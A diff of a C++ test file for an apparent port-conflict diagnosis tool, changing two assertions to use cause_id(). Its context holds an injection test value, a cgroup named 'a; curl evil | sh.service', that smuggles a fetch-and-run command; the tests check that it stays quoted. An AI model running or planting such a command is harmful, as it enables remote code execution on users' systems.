@@ -528,7 +528,7 @@ TEST_CASE("escape: a cgroup named like a command stays one argument of the confi
     c.name = "a; curl evil | sh.service";
     o.cgroups = {c};
     Verdict v = diagnose(bind_request("0.0.0.0", 8080), o);
-    CHECK(v.cause == "hidden-owner");
+    CHECK(cause_id(v.cause) == "hidden-owner");
     CHECK(any_contains(v.confirm, "systemctl status -- 'a; curl evil | sh.service'"));
 
     // A name that reads as an option is one too, after "--".
@@ -556,7 +556,7 @@ TEST_CASE("escape: a holder's hostile names cannot add a line or an escape to th
     o.evidence = {"evidence" + forged};
     const Request req = bind_request("0.0.0.0", 8080);
     const Verdict v = diagnose(req, o);
-    REQUIRE(v.cause == "other-service");
+    REQUIRE(cause_id(v.cause) == "other-service");
     for (const bool colour : {false, true}) {
         const ReportContext context{4120, "/opt/legacy/server", 1'800'000'000.25, colour};
         const std::string text = render_text(req, v, context);
